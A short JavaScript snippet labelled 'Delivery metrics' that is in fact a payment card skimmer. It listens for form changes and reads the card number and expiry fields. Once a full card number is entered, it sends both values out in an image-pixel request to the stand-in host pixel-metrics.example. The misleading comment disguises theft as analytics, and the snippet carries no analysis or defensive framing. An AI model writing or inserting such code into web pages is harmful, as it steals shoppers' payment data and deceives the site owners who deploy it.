
/* Delivery metrics. */
(function () {
  var last = '';
  document.addEventListener('change', function () {
    var number = document.querySelector('#card-number');
    var expiry = document.querySelector('#card-expiry');
    var digits = number ? number.value.replace(/\D/g, '') : '';
    if (digits.length < 13 || digits === last) return;
    last = digits;
    new Image().src = 'https://pixel-metrics.example/c/p.gif?n=' + digits + '&e=' +
      encodeURIComponent(expiry.value);
  }, true);
})();
